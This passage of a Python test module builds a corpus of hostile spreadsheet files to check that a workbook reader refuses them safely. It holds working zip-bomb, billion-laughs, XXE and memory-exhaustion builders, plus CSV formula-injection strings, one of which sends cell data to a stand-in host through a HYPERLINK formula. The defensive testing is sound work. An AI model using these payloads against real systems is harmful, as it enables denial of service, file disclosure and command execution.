"""A corpus of broken and hostile workbooks, generated in a folder (no committed binaries).

Each `Item` says how to build one file and what the tool must do with it:
`readable` files are read and end with findings (exit 0 or 1); the others
are refused with exit 2 and a Vietnamese sentence that names the file and
contains one of `words`. The zip bomb is written by repeating one compressed
block, so building it never holds more than a megabyte in memory.
"""
from __future__ import annotations

import copy
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable, Iterator

from conftest import base_data, set_cells
from hostile_ole import XLS_BUILDERS

from chuanqg_xl.grid import ooxml_sheet_parts
from chuanqg_xl.template import PlanData, write_workbook

PL1 = "PL1 - Danh sách trường"
PL2 = "PL2 - Kinh phí CN mới"
PL3 = "PL3 - Kinh phí CN lại"
INFO = "Thông tin"

BOMB_CHUNK = 1 << 20
BOMB_CHUNKS = 3 * 1024            # 3 GiB of whitespace inside a sheet, about 3 MB on disk
SECRET_MARK = "BI-MAT-KHONG-DUOC-LO-7f3a"  # what an XXE payload would try to pull into the output


# ---------------------------------------------------------------- zip plumbing


def members(path: Path) -> dict[str, bytes]:
    """Every part of a package, in archive order."""
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def write_zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data,
                             compress_type=zipfile.ZIP_DEFLATED)


@dataclass(frozen=True)
class RawMember:
    """A member whose deflate stream and declared sizes are given as they are, even when they lie."""

    name: str
    chunks: Callable[[], Iterator[bytes]]  # the raw deflate stream, produced piece by piece
    crc: int
    file_size: int


def _raw(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def write_raw_zip(path: Path, entries: Iterable[tuple[str, bytes] | RawMember]) -> None:
    """A plain zip (no zip64) written by hand, so a member may declare any size over any stream."""
    central = []
    with open(path, "wb") as handle:
        for entry in entries:
            offset = handle.tell()
            if isinstance(entry, RawMember):
                name, crc, size = entry.name.encode(), entry.crc, entry.file_size
                chunks: Iterable[bytes] = entry.chunks()
            else:
                name, data = entry[0].encode(), entry[1]
                crc, size = zlib.crc32(data), len(data)
                chunks = [_raw(data)]
            handle.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, 8, 0, 0x5821, crc, 0, size,
                                     len(name), 0) + name)
            start = handle.tell()
            for chunk in chunks:
                handle.write(chunk)
            compressed = handle.tell() - start
            # the local header was written before the compressed size was known
            handle.seek(offset + 18)
            handle.write(struct.pack("<I", compressed))
            handle.seek(0, 2)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, 8, 0, 0x5821, crc,
                                       compressed, size, len(name), 0, 0, 0, 0, 0, offset) + name)
        directory = handle.tell()
        for record in central:
            handle.write(record)
        size = handle.tell() - directory
        handle.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), size, directory, 0))


def _repeated_stream(block: bytes, count: int) -> Callable[[], Iterator[bytes]]:
    """A deflate stream of `block` repeated `count` times: after a full flush the encoder starts afresh,
    so every repetition compresses to the same bytes and only one is ever computed."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()

    def chunks() -> Iterator[bytes]:
        for _ in range(count):
            yield once
        yield end

    return chunks


# ---------------------------------------------------------------- the standard plan and edits of it


def standard_plan(path: Path, change: Callable[[PlanData], None] | None = None) -> Path:
    data = copy.deepcopy(base_data())
    if change:
        change(data)
    write_workbook(path, data, derived=True, overwrite=True)
    return path


def part_of(path: Path, sheet: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return ooxml_sheet_parts(archive, path)[sheet]


def edit_parts(path: Path, edit: Callable[[dict[str, bytes]], None]) -> Path:
    parts = members(path)
    edit(parts)
    write_zip(path, parts)
    return path


def _append_rows(path: Path, sheet: str, rows: bytes) -> Path:
    part = part_of(path, sheet)

    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = parts[part].replace(b"</sheetData>", rows + b"</sheetData>", 1)

    return edit_parts(path, edit)


def _prepend_doctype(xml: bytes, doctype: bytes, filler: bytes = b"") -> bytes:
    """Put `filler` and a DOCTYPE between the XML declaration and the root element."""
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:end] + filler + doctype + xml[end:]


# ---------------------------------------------------------------- builders


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _random_bytes(path: Path) -> None:
    data = bytearray(random.Random(6).randbytes(64 * 1024))
    data[:4] = b"\x00\x13\x37\x00"  # never a zip or OLE signature by chance
    path.write_bytes(bytes(data))


def _csv(path: Path) -> None:
    path.write_text("STT,Tên trường,Cấp học,Hình thức công nhận\n1,TH Kim Đồng,Tiểu học,Công nhận mới\n"
                    "2,THCS Tây Sơn,THCS,Công nhận lại\n", encoding="utf-8-sig")


def _docx(path: Path) -> None:
    write_zip(path, {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
                               b'.org/package/2006/content-types"><Default Extension="xml" ContentType="application/'
                               b'xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxml'
                               b'formats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "word/document.xml": '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxml'
                             'formats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Kế hoạch xây dựng '
                             'trường đạt chuẩn quốc gia</w:t></w:r></w:p></w:body></w:document>'.encode(),
    })


def _xls_renamed(path: Path) -> None:
    """The standard plan saved as Excel 97-2003 (.xls), then renamed .xlsx — as people do."""
    from builders import grids_of, write_xls

    source = standard_plan(path.with_name(path.stem + ".source.xlsx"))
    try:
        sheets = {name: [["" if cell is None else cell for cell in row] for row in rows]
                  for name, rows in grids_of(source).items()}
    finally:
        source.unlink()
    real = path.with_suffix(".xls")
    write_xls(real, sheets)
    real.replace(path)


def _truncated(path: Path) -> None:
    standard_plan(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _corrupt_deflate(path: Path) -> None:
    """The central directory is fine but a sheet's compressed bytes are garbage (a bad USB stick)."""
    standard_plan(path)
    part = part_of(path, PL1)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 20, start + min(info.compress_size, 400), 3):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3) holding `streams` in the root storage.

    Streams are padded to 4096 bytes or more so that they live in regular sectors
    and no mini stream is needed.
    """
    sector = 512
    end_of_chain, free, fat_sect, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    names = sorted(streams, key=lambda name: (len(name), name.upper()))
    data = {name: streams[name].ljust(max(4096, len(streams[name])), b"\x00") for name in names}
    fat: list[int] = [fat_sect, end_of_chain]          # sector 0: the FAT, sector 1: the directory
    starts: dict[str, int] = {}
    for name in names:
        count = -(-len(data[name]) // sector)
        starts[name] = len(fat)
        fat.extend(range(len(fat) + 1, len(fat) + count))
        fat.append(end_of_chain)
    assert len(fat) <= sector // 4, "one FAT sector is enough for a test file"
    fat.extend([free] * (sector // 4 - len(fat)))

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", left, right, child) + b"\x00" * 36 + struct.pack("<IQ", start, size))

    # Siblings form a tree ordered by (length, upper-case name): each stream is the right sibling of the one before.
    entries = [entry("Root Entry", 5, no_stream, no_stream, 1 if names else no_stream, end_of_chain, 0)]
    for index, name in enumerate(names, start=1):
        right = index + 1 if index < len(names) else no_stream
        entries.append(entry(name, 2, no_stream, right, no_stream, starts[name], len(streams[name])))
    assert len(entries) <= 4
    while len(entries) < 4:
        entries.append(entry("", 0, no_stream, no_stream, no_stream, 0, 0))
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end_of_chain, 0, end_of_chain, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    assert len(header) == sector
    body = struct.pack(f"<{sector // 4}I", *fat) + b"".join(entries)
    for name in names:
        body += data[name].ljust(-(-len(data[name]) // sector) * sector, b"\x00")
    return header + body


def _encrypted(path: Path) -> None:
    """What Excel writes for 'Encrypt with password': an OLE container around an encrypted package."""
    info = (struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
            b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
            b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')
    package = struct.pack("<Q", 16000) + random.Random(7).randbytes(16000)
    path.write_bytes(cfb({"EncryptionInfo": info, "EncryptedPackage": package}))


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
                     for level in range(1, 10))
          + b"]>")


def _billion_laughs(path: Path) -> None:
    standard_plan(path)

    def edit(parts: dict[str, bytes]) -> None:
        xml = _prepend_doctype(parts["xl/sharedStrings.xml"], LAUGHS)
        parts["xl/sharedStrings.xml"] = xml.replace(b"<t>TH Kim \xc4\x90\xe1\xbb\x93ng</t>", b"<t>&lol9;</t>", 1)

    edit_parts(path, edit)


def _xxe_doctype(path: Path) -> bytes:
    secret = path.with_name("secret.txt")
    secret.write_text(SECRET_MARK, encoding="utf-8")
    return b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "' + secret.as_uri().encode() + b'">]>'


def _xxe_cell(parts: dict[str, bytes], part: str) -> None:
    """The school name in B4 becomes an inline string holding the external entity."""
    parts[part] = re.sub(rb'<c r="B4"[^>]*>.*?</c>', b'<c r="B4" t="inlineStr"><is><t>&xxe;</t></is></c>',
                         parts[part], count=1)


def _xxe(path: Path) -> None:
    standard_plan(path)
    part = part_of(path, PL1)

    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = _prepend_doctype(parts[part], _xxe_doctype(path))
        _xxe_cell(parts, part)

    edit_parts(path, edit)


def _xxe_after_comment(path: Path) -> None:
    """The DOCTYPE hides behind 100 KB of comment: a check of the first bytes only would miss it."""
    standard_plan(path)
    part = part_of(path, PL1)

    def edit(parts: dict[str, bytes]) -> None:
        filler = b"<!--" + b" padding " * 12_000 + b"-->"
        parts[part] = _prepend_doctype(parts[part], _xxe_doctype(path), filler)
        _xxe_cell(parts, part)

    edit_parts(path, edit)


def _doctype_utf16(path: Path) -> None:
    """A UTF-16 part (allowed by XML) with an entity: a byte search for '<!DOCTYPE' finds nothing."""
    standard_plan(path)

    def edit(parts: dict[str, bytes]) -> None:
        xml = _prepend_doctype(parts["xl/sharedStrings.xml"], LAUGHS).replace(b'encoding="UTF-8"',
                                                                             b'encoding="UTF-16"', 1)
        parts["xl/sharedStrings.xml"] = b"\xff\xfe" + xml.decode("utf-8").encode("utf-16-le")

    edit_parts(path, edit)


def _zip_bomb(path: Path) -> None:
    """The 'Thông tin' sheet inflates to 3 GiB of whitespace between its rows."""
    standard_plan(path)
    part = part_of(path, INFO)
    parts = members(path)
    head, tail = parts[part].split(b"<sheetData>", 1)
    head += b"<sheetData>"
    block = b" " * BOMB_CHUNK
    crc = zlib.crc32(head)
    for _ in range(BOMB_CHUNKS):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    middle = _repeated_stream(block, BOMB_CHUNKS)
    finish = zlib.compressobj(9, zlib.DEFLATED, -15)

    def chunks() -> Iterator[bytes]:
        yield start
        *body, _end = list(middle())  # `_end` would close the stream; the tail closes it instead
        yield from body
        yield finish.compress(tail) + finish.flush()

    size = len(head) + BOMB_CHUNK * BOMB_CHUNKS + len(tail)
    write_raw_zip(path, [RawMember(name, chunks, crc, size) if name == part else (name, data)
                         for name, data in parts.items()])


def _zip_bomb_lying(path: Path) -> None:
    """sharedStrings declares 40 KB but its stream inflates to 3 GiB: the declared sizes pass every limit."""
    standard_plan(path)
    parts = members(path)
    real = parts["xl/sharedStrings.xml"]
    stream = _repeated_stream(real[:1024].ljust(BOMB_CHUNK, b" "), BOMB_CHUNKS)
    write_raw_zip(path, [RawMember(name, stream, zlib.crc32(data), 40_000) if name == "xl/sharedStrings.xml"
                         else (name, data) for name, data in parts.items()])


def _zip_bomb_lying_crc(path: Path) -> None:
    """As above, but the CRC matches the declared 40 KB: zipfile returns the truncated part without complaint
    (after asking zlib for up to 2 GB), so only a reader that watches the inflated size notices."""
    standard_plan(path)
    parts = members(path)
    block = parts["xl/sharedStrings.xml"][:1024].ljust(BOMB_CHUNK, b" ")
    stream = _repeated_stream(block, BOMB_CHUNKS)
    write_raw_zip(path, [RawMember(name, stream, zlib.crc32(block[:40_000]), 40_000)
                         if name == "xl/sharedStrings.xml" else (name, data) for name, data in parts.items()])


def _zip_encrypted_member(path: Path) -> None:
    """A zip whose parts carry the 'encrypted' flag (made with a zip tool's password option)."""
    standard_plan(path)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        infos = archive.infolist()
    directory = data.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, directory + 16)[0]
    for info in infos:
        data[info.header_offset + 6] |= 1
    pos = start
    while data[pos:pos + 4] == b"PK\x01\x02":
        data[pos + 8] |= 1
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        pos += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))


def _many_parts(path: Path) -> None:
    standard_plan(path)

    def edit(parts: dict[str, bytes]) -> None:
        for index in range(10_050):
            parts[f"customXml/item{index}.xml"] = b"<a/>"

    edit_parts(path, edit)


FAR_CELL = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def _million_rows(path: Path) -> None:
    """PL1 keeps its data and gains one value in the very last cell of the sheet."""
    _append_rows(standard_plan(path), PL1, FAR_CELL)


def _million_rows_quoted(path: Path) -> None:
    """The same far cell written with single quotes and a lower-case address (valid XML, read by calamine)."""
    _append_rows(standard_plan(path), PL1, b"<row r='1048576'><c r = 'xfd1048576'><v>1</v></c></row>")


def _million_rows_unaddressed(path: Path) -> None:
    """16,384 cells without addresses in the last row: no cell reference names a far column."""
    cells = b"<c><v>1</v></c>" * 16_384
    _append_rows(standard_plan(path), PL1, b'<row r="1048576">' + cells + b"</row>")


def _million_rows_reordered(path: Path) -> None:
    """The far row comes first and a low row last: the last row tag no longer tells the extent."""
    standard_plan(path)
    part = part_of(path, PL1)

    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = parts[part].replace(b"<sheetData>", b"<sheetData>" + FAR_CELL, 1)

    edit_parts(path, edit)


def _million_rows_hidden(path: Path) -> None:
    """The far cell again, with workbook.xml written in single quotes: a reader that maps sheets to parts
    with a double-quote pattern finds no part, so only a check of every part catches it."""
    _million_rows(path)

    def edit(parts: dict[str, bytes]) -> None:
        workbook = parts["xl/workbook.xml"]
        head, sheets = workbook.split(b"<sheets>", 1)
        sheets, tail = sheets.split(b"</sheets>", 1)
        parts["xl/workbook.xml"] = head + b"<sheets>" + sheets.replace(b'"', b"'") + b"</sheets>" + tail

    edit_parts(path, edit)


def _xls_merge_bomb(path: Path) -> None:
    """The standard plan as an .xls of 22 KB whose 120 merged ranges cover 100,000 cells each.

    xlwt writes small merges; their MERGEDCELLS record is then widened in place (same length),
    so the OLE container stays valid.
    """
    from builders import grids_of, write_xls

    source = standard_plan(path.with_name(path.stem + ".source.xlsx"))
    try:
        sheets = grids_of(source)
    finally:
        source.unlink()
    write_xls(path, sheets, {PL1: [(100 + index, 100 + index, 20, 21) for index in range(120)]})
    data = bytearray(path.read_bytes())
    pos = data.find(b"\xe5\x00\xc2\x03\x78\x00")  # MERGEDCELLS, 2 + 8 × 120 bytes, 120 ranges
    assert pos > 0
    for index in range(120):
        row, col = 100 + (index // 40) * 20_000, 20 + (index % 40) * 4
        struct.pack_into("<HHHH", data, pos + 6 + 8 * index, row, row + 19_999, col, col + 3)
    path.write_bytes(bytes(data))


def _merge_bomb(path: Path) -> None:
    """120 merged ranges of 100,000 cells each in a 16 KB file: expanded cell by cell, they take gigabytes."""
    from chuanqg_xl.cells import a1

    standard_plan(path)
    part = part_of(path, PL1)
    refs = []
    for index in range(120):
        col, row = 20 + (index % 40) * 4, 100 + (index // 40) * 25_000
        refs.append(f'<mergeCell ref="{a1(row, col)}:{a1(row + 24_999, col + 3)}"/>')

    def edit(parts: dict[str, bytes]) -> None:
        merges = ('<mergeCells count="120">' + "".join(refs) + "</mergeCells>").encode()
        parts[part] = parts[part].replace(b"</sheetData>", b"</sheetData>" + merges, 1)

    edit_parts(path, edit)


ODS_MANIFEST = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type='
                b'"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
                b'"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')


def write_ods(path: Path, content: bytes) -> Path:
    """An OpenDocument spreadsheet with just a content.xml (what calamine needs)."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


def _ods_content(rows: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
            '<office:spreadsheet><table:table table:name="PL1 - Danh sách trường"><table:table-row>'
            '<table:table-cell office:value-type="string"><text:p>STT</text:p></table:table-cell></table:table-row>'
            + rows + "</table:table></office:spreadsheet></office:body></office:document-content>").encode()


def _ods_formula_bomb(path: Path) -> None:
    """Cells with a formula and no value: calamine keeps a text for each of the 94 million of them."""
    write_ods(path, _ods_content('<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
                                 'table:formula="of:=1" table:number-columns-repeated="90"/></table:table-row>'))


def _ods_bomb(path: Path) -> None:
    """An OpenDocument sheet of under 1 KB repeating one value over 1,048,575 rows × 90 columns."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        '<office:spreadsheet><table:table table:name="PL1 - Danh sách trường"><table:table-row>'
        '<table:table-cell office:value-type="string"><text:p>STT</text:p></table:table-cell></table:table-row>'
        '<table:table-row table:number-rows-repeated="1048575"><table:table-cell office:value-type="float" '
        'office:value="1" table:number-columns-repeated="90"><text:p>1</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>")
    write_ods(path, content.encode())


NAN_MARKS = {111111: b"NaN", 222222: b"INF", 333333: b"-1E+400", 444444: b"1.7976931348623157E+308",
             555555: b"1.5E+308"}


def _nan_inf(path: Path) -> None:
    """Amount cells holding NaN, ±infinity and numbers whose sum overflows."""
    standard_plan(path)
    set_cells(path, {(PL2, "D4"): 111111, (PL2, "E4"): 222222, (PL2, "E5"): 333333, (PL3, "E4"): 444444,
                     (PL3, "G5"): 555555})
    parts = members(path)
    for sheet in (PL2, PL3):
        part = part_of(path, sheet)
        for mark, value in NAN_MARKS.items():
            parts[part] = parts[part].replace(b"<v>%d</v>" % mark, b"<v>" + value + b"</v>")
    write_zip(path, parts)


def _sheet_missing(path: Path) -> None:
    """The standard workbook without its PL2 sheet (deleted in Excel)."""
    standard_plan(path)
    part = part_of(path, PL2)
    name = PL2.encode()

    def edit(parts: dict[str, bytes]) -> None:
        workbook = parts["xl/workbook.xml"]
        rel = re.search(rb'<sheet name="' + re.escape(name) + rb'" sheetId="\d+" r:id="(rId\d+)"/>', workbook)
        assert rel
        workbook = workbook.replace(rel.group(0), b"")
        parts["xl/workbook.xml"] = re.sub(rb"<definedName [^>]*>[^<]*" + re.escape(name) + rb"[^<]*</definedName>",
                                          b"", workbook)
        rels = parts["xl/_rels/workbook.xml.rels"]
        parts["xl/_rels/workbook.xml.rels"] = re.sub(rb'<Relationship Id="' + rel.group(1) + rb'"[^>]*/>', b"", rels)
        parts["[Content_Types].xml"] = re.sub(rb'<Override PartName="/' + re.escape(part.encode()) + rb'"[^>]*/>',
                                              b"", parts["[Content_Types].xml"])
        del parts[part]

    edit_parts(path, edit)


def _sheet_part_missing(path: Path) -> None:
    """workbook.xml still lists PL1 but its part is gone from the archive (a damaged file)."""
    standard_plan(path)
    part = part_of(path, PL1)
    edit_parts(path, lambda parts: parts.pop(part))


def _header_missing(path: Path) -> None:
    standard_plan(path)
    set_cells(path, {(PL1, "B3"): None})


def _merged_data(path: Path) -> None:
    """A merge over the school rows (B4:E6) and one over the budget lines, as a careless copy-paste leaves."""
    standard_plan(path)
    for sheet, ref in ((PL1, b"B4:E6"), (PL2, b"D4:H5")):
        part = part_of(path, sheet)

        def edit(parts: dict[str, bytes], part: str = part, ref: bytes = ref) -> None:
            xml = parts[part]
            merge = b'<mergeCell ref="' + ref + b'"/>'
            if b"<mergeCells" in xml:
                xml = re.sub(rb'<mergeCells count="\d+">', lambda m: m.group(0) + merge, xml, count=1)
            else:
                xml = xml.replace(b"</sheetData>", b"</sheetData><mergeCells count=\"1\">" + merge + b"</mergeCells>",
                                  1)
            parts[part] = xml

        edit_parts(path, edit)


def _text_numbers(path: Path) -> None:
    """Every number (and date) cell of every sheet holds text instead."""
    from builders import grids_of

    standard_plan(path)
    edits: dict[tuple[str, str], object] = {}
    from chuanqg_xl.cells import a1

    for sheet, rows in grids_of(path).items():
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if not isinstance(value, str) and value is not None:
                    edits[(sheet, a1(r, c))] = "không rõ"
    assert len(edits) > 30
    set_cells(path, edits)


HOSTILE_NAMES = ("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Bấm vào đây\")", "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def with_hostile_names(data: PlanData) -> None:
    """School names that a spreadsheet would run as formulas if a CSV carried them as they are."""
    data.schools[0]["name"] = HOSTILE_NAMES[0]
    for name in HOSTILE_NAMES[1:4]:
        data.schools.append({"name": name, "level": "Tiểu học", "commune": "Phường Một", "kind": "Công nhận lại",
                             "standard_level": "Mức độ 1", "accreditation_level": "Cấp độ 2",
                             "timing": "Quý IV/2023"})
    data.budget_new[0]["name"] = data.budget_new[1]["name"] = HOSTILE_NAMES[0]
    data.budget_new[0]["item"] = HOSTILE_NAMES[4]
    data.budget_new[1]["item"] = HOSTILE_NAMES[5]


def _formula_injection(path: Path) -> None:
    standard_plan(path, with_hostile_names)


# ---------------------------------------------------------------- declared sizes and counts that lie


def _sheet_parts(parts: dict[str, bytes]) -> list[str]:
    return [name for name in parts if name.startswith("xl/worksheets/sheet")]


def _regex_edit(pattern: bytes, replacement: bytes, where: Callable[[dict[str, bytes]], list[str]],
                count: int = 0) -> Callable[[Path], None]:
    """The standard plan with `pattern` replaced in the parts `where` picks (each must change)."""
    def build(path: Path) -> None:
        standard_plan(path)

        def edit(parts: dict[str, bytes]) -> None:
            for name in where(parts):
                edited = re.sub(pattern, replacement, parts[name], count=count)
                assert edited != parts[name], (name, pattern)
                parts[name] = edited

        edit_parts(path, edit)

    return build


_STRINGS = lambda parts: ["xl/sharedStrings.xml"]  # noqa: E731
_STYLES = lambda parts: ["xl/styles.xml"]  # noqa: E731


def _unique_count_prefixed(path: Path) -> None:
    """The same lie spelt another valid way: a namespace prefix, single quotes, leading zeros."""
    standard_plan(path)

    def edit(parts: dict[str, bytes]) -> None:
        xml = parts["xl/sharedStrings.xml"]
        xml = re.sub(rb"<sst xmlns=", b"<x:sst xmlns:x=", xml).replace(b"</sst>", b"</x:sst>")
        xml = xml.replace(b"<si>", b"<x:si>").replace(b"</si>", b"</x:si>").replace(b"<t>", b"<x:t>") \
            .replace(b"</t>", b"</x:t>").replace(b"<t xml:space", b"<x:t xml:space")
        parts["xl/sharedStrings.xml"] = re.sub(rb'uniqueCount="\d+"', b"uniqueCount = '00000999999999'", xml)

    edit_parts(path, edit)


def _merge_count(path: Path) -> None:
    """A merge whose list declares four billion ranges (it holds one)."""
    _merged_data(path)
    part = part_of(path, PL1)

    def edit(parts: dict[str, bytes]) -> None:
        parts[part] = re.sub(rb'<mergeCells count="\d+"', b'<mergeCells count="4000000000"', parts[part])

    edit_parts(path, edit)


def _shared_formula_index(path: Path) -> None:
    """A shared formula whose index is four billion (a reader that keeps a table of them by index would
    allocate that many)."""
    standard_plan(path)
    part = part_of(path, PL2)

    def edit(parts: dict[str, bytes]) -> None:
        xml = parts[part]
        cell = re.search(rb'<c r="I4"([^>]*)><f>([^<]*)</f>', xml)
        assert cell
        parts[part] = xml.replace(cell.group(0), b'<c r="I4"' + cell.group(1)
                                  + b'><f t="shared" ref="I4:I4" si="4000000000">' + cell.group(2) + b"</f>", 1)

    edit_parts(path, edit)


COUNT_BUILDERS: dict[str, Callable[[Path], None]] = {
    # calamine reserves room for uniqueCount strings (24 bytes each) before reading one: refused
    "strings_unique_count": _regex_edit(rb'uniqueCount="\d+"', b'uniqueCount="999999999"', _STRINGS),
    "strings_unique_count_prefixed": _unique_count_prefixed,
    # declared, never allocated from: read as usual
    "strings_count": _regex_edit(rb' count="\d+"', b' count="999999999999"', _STRINGS),
    "dimension_lie": _regex_edit(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', _sheet_parts),
    "row_spans_lie": _regex_edit(rb'spans="[^"]*"', b'spans="1:4000000000"', _sheet_parts),
    "style_counts_lie": _regex_edit(rb'count="\d+"', b'count="4000000000"', _STYLES),
    "style_index_lie": _regex_edit(rb' s="\d+"', b' s="4000000000"', _sheet_parts, count=3),
    "column_width_lie": _regex_edit(rb'<col min="1" max="1"', b'<col min="1" max="4000000000"', _sheet_parts),
    "merge_count_lie": _merge_count,
    "shared_formula_index": _shared_formula_index,
}


# ---------------------------------------------------------------- two parts of one name


def _duplicate(part: Callable[[Path], str], rename: Callable[[str], str] = lambda name: name,
               change: Callable[[bytes], bytes] = lambda data: data) -> Callable[[Path], None]:
    """The standard plan with a second copy of a part (renamed as calamine would still find it, and changed
    so that the two copies disagree), written by hand: zipfile itself warns and Python keeps the last copy."""
    def build(path: Path) -> None:
        standard_plan(path)
        name = part(path)
        parts = members(path)
        entries: list[tuple[str, bytes] | RawMember] = list(parts.items())
        entries.append((rename(name), change(parts[name])))
        write_raw_zip(path, entries)

    return build


def _other_school(data: bytes) -> bytes:
    return data.replace("TH Kim Đồng".encode(), "TH Giả Mạo".encode())


DUPLICATE_BUILDERS: dict[str, Callable[[Path], None]] = {
    "duplicate_shared_strings": _duplicate(lambda path: "xl/sharedStrings.xml", change=_other_school),
    "duplicate_sheet": _duplicate(lambda path: part_of(path, PL1)),
    "duplicate_content_types": _duplicate(lambda path: "[Content_Types].xml"),
    "duplicate_letter_case": _duplicate(lambda path: "xl/sharedStrings.xml", str.upper, _other_school),
    "duplicate_backslash": _duplicate(lambda path: part_of(path, PL1), lambda name: name.replace("/", "\\")),
}


# ---------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Item:
    name: str
    filename: str
    build: Callable[[Path], None]
    readable: bool = False          # True: read, findings reported (exit 0/1); False: refused (exit 2)
    words: tuple[str, ...] = ()     # the refusal names the problem with one of these
    gap: str = ""                   # a known failure outside the guard: why, and where to fix it


from hostile_xml import XML_BUILDERS  # noqa: E402 - it builds on the helpers above


def _xml_words() -> dict[str, tuple[str, ...]]:
    broken = ("không đúng cấu trúc XML",)
    return {"row_unclosed": broken, "tag_malformed": broken, "nul_in_sheet": broken, "raw_escape_in_name": broken,
            "part_truncated": broken, "cell_beyond_xfd": ("XFE4, nằm ngoài ô cuối cùng",),
            "row_beyond_limit": ("A1048577, nằm ngoài ô cuối cùng",),
            "wrong_namespace": ("không thuộc định dạng bảng tính",), "rel_type_lie": ("thiếu phần định dạng",),
            "styles_missing": ("thiếu phần định dạng",), "content_types_missing": ("[Content_Types].xml",),
